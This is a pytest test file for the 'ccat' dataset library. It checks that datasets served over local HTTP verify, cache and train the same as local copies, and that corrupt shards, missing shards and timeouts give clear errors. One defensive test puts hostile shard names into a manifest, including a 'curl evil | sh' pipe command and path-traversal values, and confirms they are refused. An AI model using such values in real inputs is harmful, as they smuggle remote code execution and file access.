"""Built datasets served over HTTP on 127.0.0.1: verify, info, the cache, and refusals."""

from __future__ import annotations

import functools
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path
from typing import Iterator

import pytest

from ccat.data import open_dataset
from ccat.data.reader import DatasetError
from conftest import run_cli


@pytest.fixture()
def served(built: Path, tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A copy of the tiny build served at http://127.0.0.1:<port>/ds; yields (url, folder)."""
    root = tmp_path / "www"
    shutil.copytree(built, root / "ds")
    handler = functools.partial(_QuietHandler, directory=str(root))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/ds", root / "ds"
    finally:
        server.shutdown()
        server.server_close()


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:  # keep test output clean
        pass


def test_verify_and_info_over_http(served, tmp_path: Path, capsys) -> None:
    url, folder = served
    code, out, _ = run_cli(["verify", url, "--cache-dir", tmp_path / "cache"], capsys)
    assert code == 0 and "ok" in out
    code, out, _ = run_cli(["info", url], capsys)
    assert code == 0 and json.loads((folder / "manifest.json").read_text())["fingerprint"] in out


def test_remote_dataset_reads_the_same_samples_as_the_local_one(served, tmp_path: Path) -> None:
    url, folder = served
    local, fetched = open_dataset(folder), open_dataset(url, tmp_path / "cache")
    for split in local.splits:
        a = [(s.key, s.label, s.data["audio"].tobytes()) for s in local.iter_samples(split)]
        b = [(s.key, s.label, s.data["audio"].tobytes()) for s in fetched.iter_samples(split)]
        assert a == b


def test_a_cached_shard_whose_bytes_changed_is_fetched_again(served, tmp_path: Path) -> None:
    url, folder = served
    first = open_dataset(url, tmp_path / "cache")
    shard = first.shard_paths("train")[0]
    good = shard.read_bytes()
    shard.write_bytes(good[:100] + bytes([good[100] ^ 1]) + good[101:])
    again = open_dataset(url, tmp_path / "cache")
    assert again.shard_paths("train")[0].read_bytes() == good


def test_a_truncated_shard_over_http_is_an_error_naming_it(served, tmp_path: Path) -> None:
    url, folder = served
    shard = sorted(folder.glob("train-*.tar"))[0]
    shard.write_bytes(shard.read_bytes()[:1000])
    with pytest.raises(DatasetError, match=f"{shard.name} is truncated or corrupted"):
        open_dataset(url, tmp_path / "cache")


def test_a_manifest_without_its_shards_is_an_error_naming_the_url(served, tmp_path: Path) -> None:
    url, folder = served
    (folder / "test-000000.tar").unlink()
    with pytest.raises(DatasetError, match="test-000000.tar answered HTTP 404"):
        open_dataset(url, tmp_path / "cache")


def test_an_unreachable_server_is_one_clear_error(tmp_path: Path, capsys) -> None:
    import socket

    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    code, _, err = run_cli(["verify", f"http://127.0.0.1:{port}/ds"], capsys)
    assert code == 1 and f"cannot reach http://127.0.0.1:{port}/ds/manifest.json" in err


@pytest.mark.parametrize("name", ["pipe:curl evil | sh", "../x.tar", "/etc/x.tar"])
def test_a_manifest_naming_an_unsafe_shard_is_refused(served, tmp_path: Path, name: str) -> None:
    url, folder = served
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["splits"]["train"]["shards"][0]["name"] = name
    (folder / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(DatasetError, match="shard names must look like"):
        open_dataset(url, tmp_path / "cache")
    assert not (tmp_path / "cache").exists() or not any((tmp_path / "cache").rglob("*.tar"))


def train_and_eval(data: str, out: Path, cache: Path, config: Path) -> dict:
    """`ccat train` (one epoch per stage, tiny model) then `ccat eval`, in a fresh process."""
    tiny = ["--set", "data.batch_size=8", "--set", "data.workers=0", "--set", "model.width=16",
            "--set", "model.encoder_width=4", "--set", "model.encoder_blocks=[1, 1, 1, 1]",
            "--set", "model.heads=2", "--set", "optim.epochs=2",
            "--set", "method.params.pretrain_epochs=1", "--set", f"data.cache_dir={cache}"]
    for args in (["train", "--config", str(config), "--data", data, "--out", str(out), *tiny],
                 ["eval", "--ckpt", str(out / "best.pt"), "--data", data,
                  "--json", str(out / "eval.json")]):
        proc = subprocess.run([sys.executable, "-m", "ccat", *args], capture_output=True,
                              text=True, env={**os.environ, "CCAT_CACHE_DIR": str(cache)})
        assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads((out / "eval.json").read_text())


def test_training_from_http_matches_training_from_the_folder(served, tmp_path: Path,
                                                             pytestconfig) -> None:
    url, folder = served
    config = pytestconfig.rootpath / "configs" / "demo.yaml"
    local = train_and_eval(str(folder), tmp_path / "local", tmp_path / "cache", config)
    remote = train_and_eval(url, tmp_path / "remote", tmp_path / "cache", config)
    assert local["num_samples"] == remote["num_samples"] > 0
    assert local["accuracy"] == remote["accuracy"]
    assert local["contribution"] == remote["contribution"]


def test_a_backends_timeout_is_told_by_its_type_not_its_name() -> None:
    """botocore's timeouts (not TimeoutError subclasses) and Python's read as timeouts; an
    error whose class name merely says Timeout reads as any other."""
    ReadTimeoutError = pytest.importorskip("botocore.exceptions").ReadTimeoutError
    from ccat.data.transport import Deadline, FsspecTransport, Limits

    class TimeoutNamedButNotOne(Exception):
        pass

    def said(err: Exception) -> str:
        transport = FsspecTransport("memory", Limits(), "memory://b/k")  # any fsspec scheme
        return str(transport._error("s3://b/k", err, Deadline("s3://b/k", 60.0)))

    for err in (ReadTimeoutError(endpoint_url="s3://x"), TimeoutError("slow")):
        assert "did not answer within the timeouts" in said(err), said(err)
    assert "cannot read s3://b/k (TimeoutNamedButNotOne: no)" in said(TimeoutNamedButNotOne("no"))
